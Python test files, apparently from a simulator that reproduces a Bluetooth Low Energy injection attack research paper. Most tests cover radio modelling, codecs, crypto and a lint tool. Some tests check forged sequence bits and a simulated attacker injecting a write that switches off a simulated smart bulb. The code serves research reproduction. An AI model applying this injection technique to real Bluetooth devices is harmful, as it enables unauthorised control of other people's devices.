    positions = {"tx": (0.0, 0.0), "far": (4000.0, 0.0)}
    for i in range(30):
        positions[f"n{i:02d}"] = (1.0 + 0.05 * i, 0.5)
    return build_world(positions=positions,
                       path_loss=PathLossModel(shadowing_sigma_db=0.0),
                       **medium_kwargs)


class TestGridIndex:
    """Grid pruning must track topology changes mid-trial."""

    def test_out_of_range_pruned_in_crowded_world(self):
        sim, medium, radios = _crowded_world()
        got = []
        radios["far"].on_frame = lambda f, rssi: got.append(f)
        for name, radio in radios.items():
            if name != "tx":
                radio.listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"a", 0, 7))
        sim.run()
        assert got == []

    def test_moved_device_not_stuck_in_stale_cell(self):
        # Regression: the grid snapshot must be rebuilt when the topology
        # version moves, or a device that walked into range would stay
        # filed in its old (out-of-range) cell and never receive again.
        sim, medium, radios = _crowded_world()
        got = []
        radios["far"].on_frame = lambda f, rssi: got.append(f)
        for name, radio in radios.items():
            if name != "tx":
                radio.listen(7)
        sim.schedule_at(10.0, lambda: radios["tx"].transmit(1 << 20, b"a", 0, 7))
        sim.schedule_at(500.0, lambda: medium.topology.place("far", 2.0, 1.0))
        sim.schedule_at(600.0, lambda: radios["tx"].transmit(1 << 20, b"b", 0, 7))
        sim.run()
        assert [f.pdu for f in got] == [b"b"]

    def test_crowded_delivery_matches_broadcast(self):
        def run(indexed):
            sim, medium, radios = _crowded_world(indexed=indexed)
            got = []
            for name, radio in radios.items():
                if name != "tx":
                    radio.listen(7)
                    radio.on_frame = \
                        lambda f, rssi, n=name: got.append((n, f.pdu, rssi))
            sim.schedule_at(10.0,
                            lambda: radios["tx"].transmit(1 << 20, b"a", 0, 7))
            sim.run()
            return got

        assert run(indexed=True) == run(indexed=False)


class TestLinkShadow:
    """Per-link counter-indexed shadowing draws are pure in (link, seq)."""

    def test_out_of_order_requests_match_in_order(self):
        in_order = _LinkShadow(np.random.default_rng(42), sigma=2.0)
        expected = {seq: in_order.value(seq) for seq in range(70)}
        shuffled = _LinkShadow(np.random.default_rng(42), sigma=2.0)
        order = [seq for pair in zip(range(69, 34, -1), range(35))
                 for seq in pair]
        for seq in order:
            assert shuffled.value(seq) == expected[seq]

    def test_sparse_requests_skip_unclaimed_draws(self):
        dense = _LinkShadow(np.random.default_rng(7), sigma=1.5)
        expected = {seq: dense.value(seq) for seq in range(200)}
        sparse = _LinkShadow(np.random.default_rng(7), sigma=1.5)
        for seq in (0, 63, 64, 199, 100):
            assert sparse.value(seq) == expected[seq]


class TestTap:
    def test_tap_sees_every_frame(self):
        sim, medium, radios = build_world()
        seen = []
        medium.add_tap(lambda frame: seen.append(frame.access_address))
        sim.schedule_at(1.0, lambda: radios["tx"].transmit(0xAAAA0001, b"a", 0, 3))
        sim.schedule_at(500.0,
                        lambda: radios["other"].transmit(0xAAAA0002, b"b", 0, 9))
        sim.run()
        assert seen == [0xAAAA0001, 0xAAAA0002]
