"""Property-based tests (hypothesis) on codecs, crypto and core invariants."""

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.crypto.aes import aes128_encrypt_block
from repro.crypto.ccm import MIC_LEN, ccm_decrypt, ccm_encrypt
from repro.host.att.pdus import (
    ReadReq,
    ReadRsp,
    WriteCmd,
    WriteReq,
    decode_att_pdu,
)
from repro.host.gap import AdElement, build_adv_data, parse_adv_data
from repro.host.l2cap import l2cap_decode, l2cap_encode
from repro.ll.access_address import is_valid_access_address
from repro.ll.csa1 import Csa1
from repro.ll.csa2 import Csa2
from repro.ll.pdu.address import BdAddress
from repro.ll.pdu.control import (
    ChannelMapInd,
    ConnectionUpdateInd,
    TerminateInd,
    decode_control_pdu,
)
from repro.ll.pdu.data import LLID, DataPdu
from repro.ll.timing import window_widening_us
from repro.phy.crc import crc24, reverse_crc24_init
from repro.phy.whitening import whiten

# ---------------------------------------------------------------------------
# PHY invariants
# ---------------------------------------------------------------------------


class TestPhyProperties:
    @given(data=st.binary(max_size=80), channel=st.integers(0, 39))
    def test_whitening_involution(self, data, channel):
        assert whiten(whiten(data, channel), channel) == data

    @given(data=st.binary(max_size=60), init=st.integers(0, (1 << 24) - 1))
    def test_crc_reverse_recovers_init(self, data, init):
        assert reverse_crc24_init(data, crc24(data, init)) == init

    @given(data=st.binary(min_size=1, max_size=60),
           init=st.integers(0, (1 << 24) - 1),
           bit=st.integers(0, 7), pos=st.integers(0, 59))
    def test_crc_detects_single_bit_flips(self, data, init, bit, pos):
        if pos >= len(data):
            pos = pos % len(data)
        mutated = bytearray(data)
        mutated[pos] ^= 1 << bit
        assert crc24(bytes(mutated), init) != crc24(data, init)

    @given(master=st.floats(0, 500), slave=st.floats(0, 500),
           interval=st.floats(0, 4_000_000))
    def test_widening_at_least_32us(self, master, slave, interval):
        assert window_widening_us(master, slave, interval) >= 32.0

    @given(master=st.floats(0, 500), slave=st.floats(0, 500),
           a=st.floats(0, 1_000_000), b=st.floats(0, 1_000_000))
    def test_widening_monotone_in_interval(self, master, slave, a, b):
        low, high = sorted((a, b))
        assert window_widening_us(master, slave, low) <= \
            window_widening_us(master, slave, high)


# ---------------------------------------------------------------------------
# Channel selection invariants
# ---------------------------------------------------------------------------


class TestCsaProperties:
    @given(hop=st.integers(5, 16),
           channel_map=st.integers(1, (1 << 37) - 1),
           steps=st.integers(1, 100))
    def test_csa1_only_uses_mapped_channels(self, hop, channel_map, steps):
        csa = Csa1(hop, channel_map)
        for _ in range(steps):
            channel = csa.next_channel()
            assert (channel_map >> channel) & 1

    @given(aa=st.integers(0, (1 << 32) - 1),
           channel_map=st.integers(1, (1 << 37) - 1),
           event=st.integers(0, 65535))
    def test_csa2_only_uses_mapped_channels(self, aa, channel_map, event):
        csa = Csa2(aa, channel_map)
        channel = csa.channel_for_event(event)
        assert (channel_map >> channel) & 1

    @given(hop=st.integers(5, 16), start=st.integers(0, 36))
    def test_csa1_clone_equivalence(self, hop, start):
        a = Csa1(hop, (1 << 37) - 1, last_unmapped=start)
        b = a.clone()
        assert [a.next_channel() for _ in range(40)] == \
            [b.next_channel() for _ in range(40)]


# ---------------------------------------------------------------------------
# Codec round trips
# ---------------------------------------------------------------------------


class TestCodecProperties:
    @given(llid=st.sampled_from([LLID.DATA_CONTINUATION, LLID.DATA_START,
                                 LLID.CONTROL]),
           payload=st.binary(max_size=100),
           sn=st.integers(0, 1), nesn=st.integers(0, 1),
           md=st.integers(0, 1))
    def test_data_pdu_round_trip(self, llid, payload, sn, nesn, md):
        pdu = DataPdu.make(llid, payload, sn=sn, nesn=nesn, md=md)
        assert DataPdu.from_bytes(pdu.to_bytes()) == pdu

    @given(win_size=st.integers(0, 255), win_offset=st.integers(0, 65535),
           interval=st.integers(0, 65535), latency=st.integers(0, 65535),
           timeout=st.integers(0, 65535), instant=st.integers(0, 65535))
    def test_connection_update_round_trip(self, win_size, win_offset,
                                          interval, latency, timeout,
                                          instant):
        pdu = ConnectionUpdateInd(win_size, win_offset, interval, latency,
                                  timeout, instant)
        assert decode_control_pdu(pdu.to_payload()) == pdu

    @given(channel_map=st.integers(0, (1 << 37) - 1),
           instant=st.integers(0, 65535))
    def test_channel_map_round_trip(self, channel_map, instant):
        pdu = ChannelMapInd(channel_map, instant)
        assert decode_control_pdu(pdu.to_payload()) == pdu

    @given(code=st.integers(0, 255))
    def test_terminate_round_trip(self, code):
        assert decode_control_pdu(TerminateInd(code).to_payload()) == \
            TerminateInd(code)

    @given(value=st.integers(0, (1 << 48) - 1), random=st.booleans())
    def test_bd_address_round_trip(self, value, random):
        addr = BdAddress(value, random)
        assert BdAddress.from_bytes(addr.to_bytes(), random) == addr
        assert BdAddress.from_str(str(addr), random).value == value

    @given(handle=st.integers(0, 65535), value=st.binary(max_size=50))
    def test_att_write_round_trip(self, handle, value):
        assert decode_att_pdu(WriteReq(handle, value).to_bytes()) == \
            WriteReq(handle, value)
        assert decode_att_pdu(WriteCmd(handle, value).to_bytes()) == \
            WriteCmd(handle, value)

    @given(handle=st.integers(0, 65535))
    def test_att_read_round_trip(self, handle):
        assert decode_att_pdu(ReadReq(handle).to_bytes()) == ReadReq(handle)

    @given(value=st.binary(max_size=60))
    def test_att_read_rsp_round_trip(self, value):
        assert decode_att_pdu(ReadRsp(value).to_bytes()) == ReadRsp(value)

    @given(cid=st.integers(0, 65535), payload=st.binary(max_size=100))
    def test_l2cap_round_trip(self, cid, payload):
        assert l2cap_decode(l2cap_encode(cid, payload)) == (cid, payload)

    @given(elements=st.lists(
        st.tuples(st.integers(1, 255), st.binary(max_size=8)),
        max_size=3))
    def test_adv_data_round_trip(self, elements):
        ads = [AdElement(t, d) for t, d in elements]
        total = sum(len(d) + 2 for _, d in elements)
        if total > 31:
            return
        parsed = parse_adv_data(build_adv_data(*ads))
        assert [(e.ad_type, e.data) for e in parsed] == elements


# ---------------------------------------------------------------------------
# Crypto invariants
# ---------------------------------------------------------------------------


class TestCryptoProperties:
    @given(key=st.binary(min_size=16, max_size=16),
           block=st.binary(min_size=16, max_size=16))
    @settings(max_examples=30)
    def test_aes_is_a_permutation_per_key(self, key, block):
        # Injectivity spot check: flipping one input bit changes output.
        out = aes128_encrypt_block(key, block)
        mutated = bytes([block[0] ^ 1]) + block[1:]
        assert aes128_encrypt_block(key, mutated) != out

    @given(key=st.binary(min_size=16, max_size=16),
           nonce=st.binary(min_size=13, max_size=13),
           plaintext=st.binary(max_size=60),
           aad=st.binary(max_size=4))
    @settings(max_examples=30)
    def test_ccm_round_trip(self, key, nonce, plaintext, aad):
        ct = ccm_encrypt(key, nonce, plaintext, aad)
        assert len(ct) == len(plaintext) + MIC_LEN
        assert ccm_decrypt(key, nonce, ct, aad) == plaintext


# ---------------------------------------------------------------------------
# ARQ state machine invariant
# ---------------------------------------------------------------------------


class TestArqProperties:
    @given(ops=st.lists(st.tuples(st.integers(0, 1), st.integers(0, 1)),
                        max_size=40))
    def test_counters_stay_binary(self, ops):
        from repro.ll.connection import ConnectionState, Role
        from tests.test_ll_connection import make_params

        state = ConnectionState(make_params(), Role.SLAVE)
        for sn, nesn in ops:
            state.on_received_bits(sn, nesn)
            assert state.transmit_seq_num in (0, 1)
            assert state.next_expected_seq_num in (0, 1)

    @given(ops=st.lists(st.tuples(st.integers(0, 1), st.integers(0, 1)),
                        max_size=40))
    def test_new_data_iff_sn_matches(self, ops):
        from repro.ll.connection import ConnectionState, Role
        from tests.test_ll_connection import make_params

        state = ConnectionState(make_params(), Role.SLAVE)
        for sn, nesn in ops:
            expected_new = sn == state.next_expected_seq_num
            is_new, _ = state.on_received_bits(sn, nesn)
            assert is_new == expected_new


# ---------------------------------------------------------------------------
# Forged-bit invariant (paper eq. 6)
# ---------------------------------------------------------------------------


class TestForgedBitsProperty:
    @given(sn_s=st.integers(0, 1), nesn_s=st.integers(0, 1))
    def test_forged_frame_always_reads_as_new_data(self, sn_s, nesn_s):
        """Whatever the Slave's last bits were, the attacker's forged frame
        must be accepted as new data and acknowledge the Slave's last."""
        from repro.core.state import SniffedConnection
        from repro.ll.connection import ConnectionState, Role
        from tests.test_ll_connection import make_params

        conn = SniffedConnection(make_params())
        conn.slave_bits.sn = sn_s
        conn.slave_bits.nesn = nesn_s
        conn.slave_bits.seen = True
        sn_a, nesn_a = conn.forged_bits()

        # Model the Slave's Link Layer at the matching state.
        slave = ConnectionState(make_params(), Role.SLAVE)
        slave.next_expected_seq_num = nesn_s  # NESN_s is what it expects
        slave.transmit_seq_num = sn_s         # SN_s was its last frame
        slave.note_sent(DataPdu.empty())
        is_new, acked = slave.on_received_bits(sn_a, nesn_a)
        assert is_new   # the Slave accepts the injected data
        assert acked    # and sees its own last frame acknowledged
