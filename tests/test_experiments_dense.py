"""Tests for the dense-RF worlds and the occupancy sweep."""

import pytest

from repro.campaign.registry import get_experiment, run_unit_trial
from repro.errors import ConfigurationError
from repro.experiments.dense import (
    LAYOUTS,
    OCCUPANCY_LOAD_LEVELS,
    DenseTrial,
    build_dense_topology,
    run_dense_trial,
    summarize_occupancy,
    trial_units,
)


class TestWorldBuilders:
    @pytest.mark.parametrize("layout", LAYOUTS)
    def test_all_populations_placed(self, layout):
        topo, pairs, wifi = build_dense_topology(layout, n_pairs=5, n_wifi=2)
        assert len(pairs) == 5 and len(wifi) == 2
        for name in ("peripheral", "central", "attacker"):
            topo.position_of(name)
        for m_name, s_name in pairs:
            topo.position_of(m_name)
            topo.position_of(s_name)
        for name in wifi:
            topo.position_of(name)

    def test_apartment_separates_rooms_with_walls(self):
        topo, pairs, _ = build_dense_topology("apartment", n_pairs=3, n_wifi=0)
        # The victim room and a background room are divided by >= 1 wall;
        # a background pair inside one room is not.
        m0, s0 = pairs[0]
        assert len(topo.walls_between("peripheral", m0)) >= 1
        assert topo.walls_between(m0, s0) == ()

    def test_stadium_is_free_space(self):
        topo, pairs, _ = build_dense_topology("stadium", n_pairs=4, n_wifi=1)
        m0, _ = pairs[0]
        assert topo.walls_between("peripheral", m0) == ()

    def test_unknown_layout_rejected(self):
        with pytest.raises(ConfigurationError):
            build_dense_topology("submarine", 1, 1)

    def test_negative_population_rejected(self):
        with pytest.raises(ConfigurationError):
            build_dense_topology("apartment", -1, 0)


class TestDenseTrial:
    def test_quiet_world_trial_succeeds(self):
        result = run_dense_trial(DenseTrial(seed=301, connections=0,
                                            wifi_interferers=0))
        assert result.success
        assert result.occupancy == 0.0

    def test_loaded_world_measures_occupancy(self):
        result = run_dense_trial(DenseTrial(seed=302, connections=3,
                                            wifi_interferers=1))
        assert result.occupancy is not None and result.occupancy > 0.0

    def test_trial_is_deterministic(self):
        trial = DenseTrial(seed=303, connections=2, wifi_interferers=1)
        a, b = run_dense_trial(trial), run_dense_trial(trial)
        assert (a.success, a.attempts, a.occupancy) == \
            (b.success, b.attempts, b.occupancy)

    def test_collect_metrics_ships_snapshot(self):
        result = run_dense_trial(DenseTrial(seed=304, connections=1,
                                            collect_metrics=True))
        assert result.metrics is not None
        assert result.metrics["gauges"]["dense.ambient_links"] == 1.0


class TestOccupancySweep:
    def test_units_cover_grid_with_derived_seeds(self):
        units = trial_units(base_seed=9, n_connections=2)
        assert len(units) == 2 * len(OCCUPANCY_LOAD_LEVELS)
        labels = [label for label, _ in units]
        assert set(labels) == set(OCCUPANCY_LOAD_LEVELS)
        seeds = [t.seed for _, t in units]
        assert len(set(seeds)) == len(seeds)

    def test_registry_dispatch(self):
        defn = get_experiment("occupancy")
        units = defn.units(base_seed=9, n_connections=1,
                           levels={"one": (1, 0)})
        result = run_unit_trial(units[0][1])
        assert result.occupancy is not None

    def test_summary_row_per_level(self):
        units = trial_units(base_seed=9, n_connections=1,
                            levels={"a": (0, 0), "b": (1, 0)})
        grouped = {}
        for label, trial in units:
            grouped.setdefault(label, []).append(run_dense_trial(trial))
        rows = summarize_occupancy(grouped)
        assert [row[0] for row in rows] == ["a", "b"]
        assert all(len(row) == 4 for row in rows)
