"""End-to-end tests of CSA#2 connections and attacks against them.

The paper focuses on CSA#1 ("the most commonly used algorithm") but notes
the approach "can be easily adapted to the second algorithm" — these tests
verify the adaptation.
"""

import pytest

from repro.core.attacker import Attacker
from repro.devices import Lightbulb
from repro.host.att.pdus import WriteReq
from repro.host.l2cap import CID_ATT, l2cap_encode
from repro.host.stack import CentralHost
from repro.ll.master import MasterLinkLayer
from repro.ll.pdu.address import BdAddress
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


def build_csa2_world(seed=55, interval=75):
    sim = Simulator(seed=seed)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    bulb.ll.use_csa2 = True
    phone = MasterLinkLayer(sim, medium, "phone",
                            BdAddress.from_str("C0:FF:EE:00:00:20"),
                            interval=interval, use_csa2=True)
    CentralHost(phone)
    attacker = Attacker(sim, medium, "attacker", use_csa2=True)
    return sim, medium, bulb, phone, attacker


class TestCsa2Connection:
    def test_connection_works(self):
        sim, medium, bulb, phone, _ = build_csa2_world()
        bulb.power_on()
        phone.connect(bulb.address)
        sim.run(until_us=3_000_000)
        assert phone.is_connected and bulb.ll.is_connected
        assert len(sim.trace.filter(kind="event-missed")) == 0

    def test_channels_not_sequential(self):
        # CSA#2 is a PRNG, not modular addition: consecutive channels must
        # not follow a fixed increment.
        sim, medium, bulb, phone, _ = build_csa2_world(seed=56)
        bulb.power_on()
        phone.connect(bulb.address)
        sim.run(until_us=3_000_000)
        channels = [r.detail["channel"] for r in
                    sim.trace.filter(source="phone", kind="master-tx")]
        increments = {(b - a) % 37 for a, b in zip(channels, channels[1:])}
        assert len(increments) > 3

    def test_sniffer_follows_csa2(self):
        sim, medium, bulb, phone, attacker = build_csa2_world(seed=57)
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect(bulb.address)
        sim.run(until_us=3_000_000)
        assert attacker.synchronized
        assert attacker.connection.events_since_anchor <= 1

    def test_injection_against_csa2(self):
        sim, medium, bulb, phone, attacker = build_csa2_world(seed=58)
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect(bulb.address)
        sim.run(until_us=1_500_000)
        handle = bulb.gatt.find_characteristic(0xFF11).value_handle
        payload = l2cap_encode(CID_ATT, WriteReq(
            handle, Lightbulb.power_payload(False, pad_to=5)).to_bytes())
        reports = []
        attacker.inject(payload, on_done=reports.append)
        sim.run(until_us=60_000_000)
        assert reports and reports[0].success
        assert not bulb.is_on
        assert phone.is_connected and bulb.ll.is_connected


class TestCoexistingConnections:
    def test_two_connections_do_not_interfere(self):
        """Different connections share the band but hop independently;
        both must run cleanly (this is what channel hopping is *for*)."""
        sim = Simulator(seed=60)
        topo = Topology()
        topo.place("bulb-a", 0.0, 0.0)
        topo.place("phone-a", 2.0, 0.0)
        topo.place("bulb-b", 10.0, 0.0)
        topo.place("phone-b", 12.0, 0.0)
        medium = Medium(sim, topo)
        from repro.devices import Smartphone

        bulb_a = Lightbulb(sim, medium, "bulb-a")
        bulb_b = Lightbulb(sim, medium, "bulb-b")
        phone_a = Smartphone(sim, medium, "phone-a", interval=36)
        phone_b = Smartphone(sim, medium, "phone-b", interval=50)
        bulb_a.power_on()
        bulb_b.power_on()
        phone_a.connect_to(bulb_a.address)
        phone_b.connect_to(bulb_b.address)
        sim.run(until_us=5_000_000)
        assert phone_a.is_connected and bulb_a.ll.is_connected
        assert phone_b.is_connected and bulb_b.ll.is_connected
        # Occasional same-channel overlaps are tolerable; the connections
        # must survive them.
        missed = len(sim.trace.filter(kind="event-missed"))
        assert missed < 20
