"""Tests for repro.lintkit.flow — call graph, effects, cache, CLI.

Four layers:

* **Fixture trees** under ``tests/data/lintkit/flow/<checker>/``: each
  flow checker gets a ``bad/`` tree it must flag and a ``good/`` twin it
  must stay silent on.  ``blocking/`` re-enacts the PR 8 freeze (a
  coroutine joining worker processes directly) and its executor-hop fix.
* **Golden report**: the JSON rendering of ``blocking/bad`` is pinned so
  flow-finding shape, messages and the ``flow`` stats block cannot drift.
* **Call-graph units**: method dispatch, closures, re-exports and
  spawn/executor edge kinds on synthetic trees.
* **Cache + CLI**: ``flow_tree_token`` invalidation, warm-load via
  ``run_lint(flow_cache=...)``, and the ``--prune-baseline`` flag.
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from repro.cli import main
from repro.lintkit import (
    checker_index,
    load_baseline,
    run_lint,
    save_baseline,
)
from repro.lintkit.engine import load_project
from repro.lintkit.flow import attach_analysis, ensure_analysis
from repro.lintkit.flow.cache import (
    flow_tree_token,
    load_graph,
    store_graph,
)
from repro.lintkit.flow.graph import build_graph

FLOW_FIXTURES = Path(__file__).parent / "data" / "lintkit" / "flow"
GOLDEN_BLOCKING = FLOW_FIXTURES / "golden_blocking.json"

#: checker id -> (fixture dir, message fragments every bad/ tree yields).
FLOW_TREES = {
    "blocking-in-async": (
        "blocking",
        ["stalls the event loop", "process.join()"],
    ),
    "rng-flow": (
        "rng",
        ["RNG substream", "conditional on telemetry state"],
    ),
    "error-taxonomy": (
        "taxonomy",
        ["'KeyError' can escape entry point", "swallows 'ServiceError'"],
    ),
    "protocol-conformance": (
        "protocol",
        ["no handler", "never sends it"],
    ),
}


def _lint_tree(tree: Path, checker_id: str):
    return run_lint(tree, checkers=[checker_index()[checker_id]])


def _write_tree(root: Path, files) -> Path:
    for rel, source in files.items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(textwrap.dedent(source))
    return root


class TestFlowFixtureTrees:
    @pytest.mark.parametrize("checker_id", sorted(FLOW_TREES))
    def test_bad_tree_yields_expected_messages(self, checker_id):
        tree, fragments = FLOW_TREES[checker_id]
        report = _lint_tree(FLOW_FIXTURES / tree / "bad", checker_id)
        rendered = [f.message for f in report.findings]
        assert rendered, f"{checker_id} silent on flow/{tree}/bad"
        for fragment in fragments:
            assert any(fragment in msg for msg in rendered), \
                (fragment, rendered)

    @pytest.mark.parametrize("checker_id", sorted(FLOW_TREES))
    def test_good_twin_is_silent(self, checker_id):
        tree, _ = FLOW_TREES[checker_id]
        report = _lint_tree(FLOW_FIXTURES / tree / "good", checker_id)
        assert report.findings == [], \
            [f.render() for f in report.findings]


class TestPr8Reenactment:
    """The acceptance fixture: the blocking-join freeze that shipped in
    PR 8 (a coroutine calling ``process.join`` on the event loop) must
    be flagged, and the executor-hop rewrite must pass."""

    def test_direct_join_in_coroutine_is_flagged(self):
        report = _lint_tree(FLOW_FIXTURES / "blocking" / "bad",
                            "blocking-in-async")
        direct = [f for f in report.findings
                  if "process.join() inside async" in f.message]
        assert direct, [f.render() for f in report.findings]

    def test_join_behind_sync_helper_is_flagged(self):
        report = _lint_tree(FLOW_FIXTURES / "blocking" / "bad",
                            "blocking-in-async")
        via_helper = [f for f in report.findings
                      if "stop_fleet -> process.join()" in f.message]
        assert via_helper, [f.render() for f in report.findings]

    def test_executor_hop_rewrite_passes(self):
        report = _lint_tree(FLOW_FIXTURES / "blocking" / "good",
                            "blocking-in-async")
        assert report.findings == [], \
            [f.render() for f in report.findings]


class TestGoldenFlowReport:
    def test_blocking_bad_json_matches_golden(self):
        report = run_lint(FLOW_FIXTURES / "blocking" / "bad")
        golden = GOLDEN_BLOCKING.read_text()
        assert report.to_json() + "\n" == golden, (
            "flow lint report for flow/blocking/bad drifted from the "
            "golden copy; if the change is intentional regenerate with "
            "run_lint(tree).to_json()"
        )

    def test_golden_reports_flow_stats(self):
        doc = json.loads(GOLDEN_BLOCKING.read_text())
        assert doc["flow"]["source"] == "built"
        assert doc["flow"]["functions"] > 0
        assert doc["flow"]["edges"] > 0


class TestCallGraph:
    def test_method_dispatch_via_annotation(self, tmp_path):
        _write_tree(tmp_path, {
            "engine.py": '''\
                """Engine."""


                class Engine:
                    """E."""

                    def advance(self):
                        """A."""
                        return 1


                def drive(engine: Engine):
                    """D."""
                    return engine.advance()
            ''',
        })
        graph = build_graph(load_project(tmp_path))
        edges = {(e.caller, e.callee, e.kind) for e in graph.edges}
        assert ("engine.py:drive", "engine.py:Engine.advance",
                "call") in edges

    def test_self_attr_dispatch_from_init_param(self, tmp_path):
        _write_tree(tmp_path, {
            "wrap.py": '''\
                """Wrap."""


                class Inner:
                    """I."""

                    def work(self):
                        """W."""
                        return 1


                class Outer:
                    """O."""

                    def __init__(self, inner: Inner):
                        """C."""
                        self.inner = inner

                    def run(self):
                        """R."""
                        return self.inner.work()
            ''',
        })
        graph = build_graph(load_project(tmp_path))
        edges = {(e.caller, e.callee) for e in graph.edges}
        assert ("wrap.py:Outer.run", "wrap.py:Inner.work") in edges

    def test_closure_gets_ref_edge_from_parent(self, tmp_path):
        _write_tree(tmp_path, {
            "loop.py": '''\
                """Loop."""


                def outer():
                    """O."""

                    def inner():
                        return 1

                    return inner()
            ''',
        })
        graph = build_graph(load_project(tmp_path))
        inner_fid = "loop.py:outer.<locals>.inner"
        assert inner_fid in graph.functions
        kinds = {e.kind for e in graph.edges
                 if e.caller == "loop.py:outer" and e.callee == inner_fid}
        assert "ref" in kinds or "call" in kinds

    def test_reexport_through_package_init(self, tmp_path):
        _write_tree(tmp_path, {
            "pkg/__init__.py": '''\
                """Pkg."""
                from pkg.impl import helper
            ''',
            "pkg/impl.py": '''\
                """Impl."""
                import time


                def helper():
                    """H."""
                    time.sleep(1.0)
            ''',
            "app.py": '''\
                """App."""
                from pkg import helper


                async def main():
                    """M."""
                    helper()
            ''',
        })
        graph = build_graph(load_project(tmp_path))
        edges = {(e.caller, e.callee, e.kind) for e in graph.edges}
        assert ("app.py:main", "pkg/impl.py:helper", "call") in edges

    def test_spawn_and_executor_edge_kinds(self, tmp_path):
        _write_tree(tmp_path, {
            "svc.py": '''\
                """Svc."""
                import asyncio
                import multiprocessing


                def body(unit):
                    """B."""
                    unit.wait()


                async def launch(unit):
                    """L."""
                    loop = asyncio.get_running_loop()
                    process = multiprocessing.Process(target=body)
                    process.start()
                    await loop.run_in_executor(None, body, unit)
                    return process
            ''',
        })
        graph = build_graph(load_project(tmp_path))
        kinds = {e.kind for e in graph.edges
                 if e.caller == "svc.py:launch" and
                 e.callee == "svc.py:body"}
        assert kinds == {"spawn", "executor"}

    def test_effect_propagation_masks_executor_blocking(self, tmp_path):
        _write_tree(tmp_path, {
            "svc.py": '''\
                """Svc."""
                import asyncio
                import time


                def slow():
                    """S."""
                    time.sleep(1.0)


                async def hop(loop):
                    """H."""
                    await loop.run_in_executor(None, slow)


                async def direct():
                    """D."""
                    slow()
            ''',
        })
        analysis = ensure_analysis(load_project(tmp_path))
        blocking = analysis.effects.blocking
        assert "svc.py:slow" in blocking
        assert "svc.py:direct" in blocking
        assert "svc.py:hop" not in blocking


class TestFlowCache:
    def test_store_load_roundtrip(self, tmp_path):
        tree = _write_tree(tmp_path / "tree", {
            "mod.py": '"""M."""\n\n\ndef f():\n    """F."""\n    return 1\n',
        })
        graph = build_graph(load_project(tree))
        cache = tmp_path / "cache"
        token = flow_tree_token(tree)
        assert load_graph(cache, token) is None
        store_graph(cache, token, graph)
        loaded = load_graph(cache, token)
        assert loaded is not None
        assert loaded.to_dict() == graph.to_dict()

    def test_token_changes_when_source_changes(self, tmp_path):
        tree = _write_tree(tmp_path / "tree", {
            "mod.py": '"""M."""\n\n\ndef f():\n    """F."""\n    return 1\n',
        })
        before = flow_tree_token(tree)
        (tree / "mod.py").write_text(
            '"""M."""\n\n\ndef f():\n    """F."""\n    return 2\n')
        after = flow_tree_token(tree)
        assert before != after
        graph = build_graph(load_project(tree))
        cache = tmp_path / "cache"
        store_graph(cache, after, graph)
        # The pre-edit token must not resolve to the post-edit graph.
        assert load_graph(cache, before) is None

    def test_corrupt_cache_file_is_a_miss(self, tmp_path):
        tree = _write_tree(tmp_path / "tree", {
            "mod.py": '"""M."""\n\n\ndef f():\n    """F."""\n    return 1\n',
        })
        cache = tmp_path / "cache"
        token = flow_tree_token(tree)
        store_graph(cache, token, build_graph(load_project(tree)))
        (payload,) = list(cache.glob("graph-*.json"))
        payload.write_text("{not json")
        assert load_graph(cache, token) is None

    def test_run_lint_warm_load_reports_cache_source(self, tmp_path):
        tree = _write_tree(tmp_path / "tree", {
            "mod.py": '"""M."""\n\n\ndef f():\n    """F."""\n    return 1\n',
        })
        cache = tmp_path / "cache"
        cold = run_lint(tree, flow_cache=cache)
        warm = run_lint(tree, flow_cache=cache)
        assert cold.flow is not None and cold.flow.source == "built"
        assert warm.flow is not None and warm.flow.source == "cache"
        assert warm.flow.functions == cold.flow.functions
        assert warm.flow.edges == cold.flow.edges

    def test_attach_analysis_memoised_on_project(self, tmp_path):
        tree = _write_tree(tmp_path / "tree", {
            "mod.py": '"""M."""\n\n\ndef f():\n    """F."""\n    return 1\n',
        })
        project = load_project(tree)
        first = attach_analysis(project)
        second = attach_analysis(project)
        assert first is second


class TestNoFlowMode:
    def test_no_flow_skips_flow_checkers(self):
        tree = FLOW_FIXTURES / "blocking" / "bad"
        report = run_lint(tree, flow=False)
        assert report.flow is None
        assert not any(f.checker == "blocking-in-async"
                       for f in report.findings)

    def test_cli_no_flow_flag(self, capsys):
        tree = FLOW_FIXTURES / "blocking" / "bad"
        code = main(["lint", "--root", str(tree), "--no-flow",
                     "--baseline", str(tree / "absent.json")])
        assert code == 0
        assert "flow:" not in capsys.readouterr().out


class TestPruneBaseline:
    def _tree_with_finding(self, tmp_path):
        return _write_tree(tmp_path / "tree", {
            "ll/gap.py": (
                '"""Gap."""\n\n'
                "def deadline(end_us):\n"
                '    """D."""\n'
                "    return end_us + 150.0\n"
            ),
        })

    def test_prune_removes_stale_and_keeps_reasons(self, tmp_path, capsys):
        tree = self._tree_with_finding(tmp_path)
        baseline_path = tmp_path / "baseline.json"
        report = run_lint(tree)
        save_baseline(baseline_path, report.findings,
                      reason="reviewed spec constant")
        doc = json.loads(baseline_path.read_text())
        doc["entries"]["deadbeefdeadbeef"] = {
            "checker": "magic-number", "path": "gone.py",
            "snippet": "fixed long ago", "reason": "stale",
        }
        baseline_path.write_text(json.dumps(doc))

        code = main(["lint", "--root", str(tree), "--no-flow-cache",
                     "--baseline", str(baseline_path), "--prune-baseline"])
        out = capsys.readouterr().out
        assert code == 0
        assert "pruned 1 stale baseline" in out

        pruned = json.loads(baseline_path.read_text())
        assert "deadbeefdeadbeef" not in pruned["entries"]
        (entry,) = pruned["entries"].values()
        # Surviving entries keep their reviewed reason verbatim.
        assert entry["reason"] == "reviewed spec constant"
        assert pruned["version"] == 1

    def test_prune_without_stale_leaves_file_untouched(self, tmp_path,
                                                       capsys):
        tree = self._tree_with_finding(tmp_path)
        baseline_path = tmp_path / "baseline.json"
        report = run_lint(tree)
        save_baseline(baseline_path, report.findings, reason="reviewed")
        before = baseline_path.read_text()
